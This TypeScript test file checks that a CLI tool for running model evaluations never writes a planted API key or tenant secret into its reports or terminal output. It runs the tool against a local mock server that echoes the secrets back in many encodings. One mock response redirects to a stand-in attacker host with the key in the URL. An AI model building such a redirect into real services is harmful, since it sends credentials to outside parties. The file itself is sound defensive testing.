import { readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { beforeAll, describe, it } from 'vitest';
import { builtProgram, call, emptyFolder } from './built.ts';

// Characters that JSON, URLs and base64 each spell in another way.
const KEY = 'sk-Planted/Key+0123456789="~end';
const TENANT = 'tenant-Secret/9876543210=';

const spellings = (secret: string): readonly string[] => [
  secret,
  encodeURIComponent(secret),
  encodeURIComponent(encodeURIComponent(secret)),
  Buffer.from(secret).toString('base64').replace(/=+$/, ''),
  Buffer.from(secret).toString('base64url'),
  Buffer.from(secret).toString('hex'),
  JSON.stringify(secret).slice(1, -1),
  secret.toLowerCase(),
  secret.toUpperCase(),
];

const said = ({ headers, url = '' }: IncomingMessage): string =>
  `authorization ${headers.authorization ?? ''} key ${headers['x-goog-api-key'] ?? ''} tenant ${headers['x-tenant'] ?? ''} at ${url}`;

type Echo = (said: string, response: ServerResponse) => void;

/** Every way in which a careless server gives back what it was told. */
const ECHOES: readonly Echo[] = [
  (text, response) =>
    response
      .writeHead(400, { 'content-type': 'application/json' })
      .end(
        JSON.stringify({ error: { code: 400, message: `bad request: ${text}`, status: 'INVALID_ARGUMENT' } }),
      ),
  (text, response) =>
    response
      .writeHead(200, {
        'content-type': 'application/json',
        'x-debug': text,
        [`x-${KEY.length}`]: encodeURIComponent(text),
      })
      .end(
        JSON.stringify({
          echo: text,
          base64: Buffer.from(text).toString('base64'),
          key: Buffer.from(KEY).toString('base64'),
        }),
      ),
  (text, response) =>
    response
      .writeHead(200, { 'content-type': 'text/event-stream' })
      .end(
        `: ${text}\n\nevent: ${encodeURIComponent(text)}\nid: ${KEY}\ndata: ${JSON.stringify({ text, KEY })}\n\n`,
      ),
  (text, response) =>
    response
      .writeHead(302, { location: `https://attacker.invalid/?${encodeURIComponent(text)}&key=${KEY}` })
      .end(),
  (text, response) =>
    response.writeHead(500, { 'content-type': 'text/html' }).end(`<h1>${text} ${KEY} ${TENANT}</h1>`),
  (text, response) => {
    response.writeHead(200, { 'content-type': 'application/json', 'content-length': '99999' });
    response.write(`{"cut": ${JSON.stringify(text)}`);
    setTimeout(() => response.destroy(), 20);
  },
  (_, response) =>
    response
      .writeHead(200, { 'content-type': 'application/octet-stream' })
      .end(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${KEY} ${TENANT}`), Buffer.from([0xff])])),
];

/** Says the key where a client looks for a coding that it knows. */
const ECHO_AS_CODING: Echo = (text, response) =>
  response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': text }).end(text);

const echo = async (echoes: readonly Echo[]): Promise<{ url: string; close: () => void }> => {
  let served = 0;
  const server = createServer((request, response) => {
    request.resume();
    const deed = echoes[served % echoes.length];
    served += 1;
    deed?.(said(request), response);
  });
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
  // A server that listens on a port has an AddressInfo, not a pipe's name.
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}`, close: () => server.close() };
};

const CONFIG = `targets:
  - name: leaky
    provider: google
    headers: { X-Tenant: "\${TENANT}" }
`;

const leaks = (texts: Readonly<Record<string, string>>): readonly string[] =>
  Object.entries(texts).flatMap(([name, text]) =>
    [KEY, TENANT].flatMap((secret) =>
      spellings(secret)
        .filter((spelling) => text.includes(spelling))
        .map(
          (spelling) =>
            `${name} holds ${spelling} at ${text.slice(Math.max(0, text.indexOf(spelling) - 80), text.indexOf(spelling))}`,
        ),
    ),
  );

/** Runs against a server that gives back what it hears, judges the file again, and gathers all that was written. */
const gather = async (echoes: readonly Echo[]) => {
  const out = emptyFolder();
  const target = await echo(echoes);
  const config = join(out, 'leaky.yaml');
  writeFileSync(config, CONFIG);
  const reports = ['--report', 'html,junit,json,markdown,terminal'];
  const run = ['run', '-c', config, '-u', target.url, '-e', 'smoke', '-o', join(out, 'run'), ...reports];
  const ran = await call(run, { env: { CONCORDAT_API_KEY: KEY, TENANT } });
  target.close();
  const file = join(out, 'run', 'run.jsonl');
  const judged = await call(['judge', file, '-o', join(out, 'judged'), ...reports]);
  const names = ['run', 'judged'].flatMap((folder) =>
    readdirSync(join(out, folder)).map((name) => join(folder, name)),
  );
  const files = names.map((name): [string, string] => [name, readFileSync(join(out, name), 'utf8')]);
  rmSync(out, { recursive: true });
  const screens = { out: ran.stdout, err: ran.stderr, again: judged.stdout, errAgain: judged.stderr };
  return { codes: [ran.code, judged.code], names, texts: { ...screens, ...Object.fromEntries(files) } };
};

beforeAll(() => void builtProgram());

describe.concurrent('a key', () => {
  it('is in no file and on no screen, however the target gives it back', async ({ expect }) => {
    const { codes, names, texts } = await gather(ECHOES);
    expect({ codes, files: names.length }).toEqual({ codes: [1, 1], files: 12 });
    expect(texts.out).toContain('http/secrets/key-is-never-echoed');
    expect(leaks(texts)).toEqual([]);
  });

  it('is in no file and on no screen where it comes back as a content coding', async ({ expect }) => {
    const { codes, texts } = await gather([ECHO_AS_CODING]);
    expect(codes).toEqual([1, 1]);
    expect(leaks(texts)).toEqual([]);
  });

  it('is not in what a broken start says', async ({ expect }) => {
    const target = ['run', '-p', 'google', '-u', 'http://127.0.0.1:1', '-o', emptyFolder()];
    const given = await call([...target, '--key', `${KEY} with space`]);
    expect(given.code).toBe(2);
    expect(given.stderr).toContain('--key shows the key to every user of this machine');
    const spoiled = await call(target, { env: { CONCORDAT_API_KEY: `${KEY}\u00e9` } });
    expect(spoiled.code).toBe(2);
    expect(leaks({ given: given.stderr, spoiled: spoiled.stderr })).toEqual([]);
  });
});
